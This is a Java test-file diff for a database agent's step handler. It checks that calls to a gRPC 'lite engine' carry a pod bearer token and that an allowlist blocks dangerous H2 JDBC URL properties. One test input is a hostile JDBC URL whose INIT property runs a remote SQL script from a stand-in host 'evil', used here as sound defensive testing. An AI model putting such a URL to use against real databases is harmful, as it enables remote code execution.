@@ -35,6 +35,7 @@ class ExecuteStepHandlerTest {
 
   private final GrpcChannels channels = new GrpcChannels("lite engine");
   private final PodMaskers maskers = new PodMaskers();
+  private final List<String> authorizations = new java.util.concurrent.CopyOnWriteArrayList<>();
   private final io.dbops.agent.secrets.PodCredentials credentials = new io.dbops.agent.secrets.PodCredentials();
   private Server server;
 
@@ -82,18 +83,69 @@ class ExecuteStepHandlerTest {
         new StageLogs(new okhttp3.OkHttpClient(), null));
   }
 
+  @Test
+  void everyCallCarriesThePodsCredential() throws Exception {
+    serve(responses -> {
+      responses.onNext(ExecuteStepResponse.newBuilder().setResult(StepResult.newBuilder()
+          .setStatus(StepStatus.STEP_STATUS_SUCCEEDED)).build());
+      responses.onCompleted();
+    });
+    String token = credentials.issue("pod-1");
+
+    handler().run(task("pod-1"));
+    handler().run(task("pod-1"));
+
+    assertThat(authorizations).containsExactly("Bearer " + token, "Bearer " + token);
+  }
+
+  @Test
+  void aStepTheAllowlistsRefuseNeverReachesTheLiteEngine() throws Exception {
+    serve(responses -> responses.onError(Status.INTERNAL.asRuntimeException()));
+
+    assertThatThrownBy(() -> handler().run(task("pod-1", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
+        .isInstanceOf(TaskFailedException.class)
+        .hasMessage("Step apply refused: JDBC URL property INIT of h2 is never allowed (rule: JDBC properties; it"
+            + " loads classes, runs code, touches files or changes server settings, so no setting allows it)");
+    assertThat(authorizations).isEmpty();
+  }
+
+  @Test
+  void aLiteEngineRefusingTheCredentialFailsTheStepSayingWhy() throws Exception {
+    serve(responses -> responses.onError(Status.UNAUTHENTICATED.withDescription("missing or wrong pod credential"
+        + " (authorization: Bearer <DBOPS_POD_TOKEN>); only this pod's delegate may call it").asRuntimeException()));
+
+    assertThatThrownBy(() -> handler().run(task("pod-1")))
+        .hasMessageContaining("refused this delegate's credential (missing or wrong pod credential")
+        .hasMessageContaining("only the delegate instance that started a pod may call it");
+  }
+
   private void serve(java.util.function.Consumer<StreamObserver<ExecuteStepResponse>> answer) throws Exception {
-    server = NettyServerBuilder.forPort(0).addService(new LiteEngineGrpc.LiteEngineImplBase() {
-      @Override
-      public void executeStep(ExecuteStepRequest request, StreamObserver<ExecuteStepResponse> responses) {
-        answer.accept(responses);
-      }
-    }).build().start();
+    io.grpc.Metadata.Key<String> authorization =
+        io.grpc.Metadata.Key.of("authorization", io.grpc.Metadata.ASCII_STRING_MARSHALLER);
+    server = NettyServerBuilder.forPort(0).addService(io.grpc.ServerInterceptors.intercept(
+        new LiteEngineGrpc.LiteEngineImplBase() {
+          @Override
+          public void executeStep(ExecuteStepRequest request, StreamObserver<ExecuteStepResponse> responses) {
+            answer.accept(responses);
+          }
+        }, new io.grpc.ServerInterceptor() {
+          @Override
+          public <Q, A> io.grpc.ServerCall.Listener<Q> interceptCall(io.grpc.ServerCall<Q, A> call,
+              io.grpc.Metadata headers, io.grpc.ServerCallHandler<Q, A> next) {
+            String value = headers.get(authorization);
+            authorizations.add(value == null ? "(none)" : value);
+            return next.startCall(call, headers);
+          }
+        })).build().start();
   }
 
   private Frame.TaskAssigned task(String pod) {
+    return task(pod, "jdbc:h2:mem:x");
+  }
+
+  private Frame.TaskAssigned task(String pod, String jdbcUrl) {
     ExecuteStepPayload payload = new ExecuteStepPayload("e1", "dev", "apply", pod, "127.0.0.1:" + server.getPort(), 1,
-        new ExecuteStepPayload.StepSpec("apply", "changelog.xml", null, "jdbc:h2:mem:x", null, null, null, null,
+        new ExecuteStepPayload.StepSpec("apply", "changelog.xml", null, jdbcUrl, null, null, null, null,
             null, 0, Map.of(), null),
         new ExecuteStepPayload.LogStreamRef("http://127.0.0.1:1", "executions/e1/dev/apply", "t"));
     return new Frame.TaskAssigned("task-1", TaskTypes.EXECUTE_STEP, 1, 30, 60, Json.tree(payload));
